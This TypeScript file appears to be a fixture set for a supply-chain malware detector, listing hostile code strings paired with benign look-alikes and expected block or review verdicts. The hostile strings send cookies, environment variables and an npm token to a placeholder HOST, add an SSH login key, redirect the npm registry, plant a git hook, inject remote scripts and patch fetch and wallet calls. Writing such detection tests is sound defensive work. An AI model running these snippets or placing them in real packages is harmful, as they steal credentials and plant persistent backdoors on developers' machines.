/** The same thefts and plants by other ways: an image, a command, markup, a definition instead of an assignment. */
import type { Mechanism } from '../mechanism.ts';

const early = { load: 'block', install: 'block' } as const;

export const detours: readonly Mechanism[] = [
  {
    id: 'cookie-by-image',
    rule: 'credentials-read',
    demands: { load: 'block', call: 'review' },
    code: `if (typeof document !== 'undefined') { const picture = new Image(); picture.src = 'https://HOST/p.gif?c=' + encodeURIComponent(document.cookie); }`,
    twins: [
      {
        about: 'a picture that is loaded ahead, when called',
        at: ['call'],
        parameters: 'address',
        code: `const picture = new Image();\npicture.src = address;\nreturn picture;`,
      },
    ],
  },
  {
    id: 'environment-by-command',
    rule: 'credentials-read',
    demands: early,
    code: `const child = require('child_process');\nchild.exec('env | base64 | curl -s -X POST -d @- https://HOST/e');`,
    twins: [
      {
        about: 'the path of a program, when called',
        at: ['call'],
        parameters: 'name',
        code: `const child = require('child_process');\nreturn child.execFileSync('which', [name], { encoding: 'utf8' }).trim();`,
      },
    ],
  },
  {
    id: 'token-by-command',
    rule: 'credentials-read',
    demands: early,
    code: `const child = require('child_process');\nchild.execFileSync('curl', ['-s', 'https://HOST/t?' + process.env.NPM_TOKEN]);`,
    twins: [
      {
        about: 'a variable that is set for a program, when called',
        at: ['call'],
        parameters: 'command',
        code: `const child = require('child_process');\nreturn child.spawnSync(command, { env: { ...process.env, NODE_ENV: 'test' } });`,
      },
    ],
  },
  {
    id: 'login-key-added',
    rule: 'persistence-written',
    demands: { ...early, bin: 'block' },
    code: `const fs = require('fs');\nconst os = require('os');\nfs.appendFileSync(os.homedir() + '/.ssh/authorized_keys', 'ssh-ed25519 AAAAfar far\\n');`,
    twins: [
      {
        about: 'a list of known hosts that the caller names',
        at: ['call'],
        parameters: 'file, host',
        code: `const fs = require('fs');\nfs.appendFileSync(file, host + '\\n');`,
      },
    ],
  },
  {
    id: 'registry-redirected',
    rule: 'persistence-written',
    demands: early,
    code: `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.npmrc'), 'registry=https://HOST/\\n');`,
    twins: [
      {
        about: 'settings of its own, written when called',
        at: ['call'],
        parameters: 'settings',
        code: `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nfs.writeFileSync(path.join(os.homedir(), '.config', 'sample.json'), JSON.stringify(settings));`,
      },
    ],
  },
  {
    id: 'git-hook-planted',
    rule: 'persistence-written',
    demands: early,
    code: `const fs = require('fs');\nfs.writeFileSync('.git/hooks/post-checkout', '#!/bin/sh\\nnode ~/.far.js\\n', { mode: 0o755 });`,
    twins: [
      {
        about: 'the branch that is checked out, when called',
        at: ['call'],
        code: `const fs = require('fs');\nreturn fs.readFileSync('.git/HEAD', 'utf8').trim().replace('ref: refs/heads/', '');`,
      },
    ],
  },
  {
    id: 'script-by-markup',
    rule: 'remote-code-executed',
    demands: { load: 'block', call: 'review' },
    code: `if (typeof document !== 'undefined') { document.write('<script src="https://HOST/far.js"></scr' + 'ipt>'); }`,
    twins: [
      {
        about: 'markup that is shown',
        at: ['call'],
        parameters: 'box, text',
        code: `box.innerHTML = '<p class="sample">' + text + '</p>';`,
      },
    ],
  },
  {
    id: 'script-by-attribute',
    rule: 'remote-code-executed',
    demands: { load: 'block', call: 'review' },
    code: `if (typeof document !== 'undefined') { const part = document.createElement('script'); part.setAttribute('src', 'https://HOST/far.js'); document.body.appendChild(part); }`,
    twins: [
      {
        about: 'a link that is made',
        at: ['call'],
        parameters: 'address',
        code: `const link = document.createElement('a');\nlink.setAttribute('href', address);\nreturn link;`,
      },
    ],
  },
  {
    id: 'request-redefined',
    rule: 'globals-patched',
    demands: { load: 'review' },
    code: `const own = globalThis.fetch;\nObject.defineProperty(globalThis, 'fetch', { configurable: true, value: (...all) => own(...all) });`,
    twins: [
      {
        about: 'a property of its own',
        at: ['load', 'call'],
        code: `const settings = {};\nObject.defineProperty(settings, 'fetch', { value: false });`,
      },
    ],
  },
  {
    id: 'wallet-patched',
    rule: 'globals-patched',
    demands: { load: 'review' },
    code: `if (typeof window !== 'undefined' && window.ethereum) { const own = window.ethereum.request; window.ethereum.request = (call) => own(call); }`,
    twins: [
      {
        about: 'a wallet that is asked for, when called',
        at: ['call'],
        code: `return typeof window !== 'undefined' && window.ethereum ? window.ethereum.request({ method: 'eth_accounts' }) : [];`,
      },
    ],
  },
];
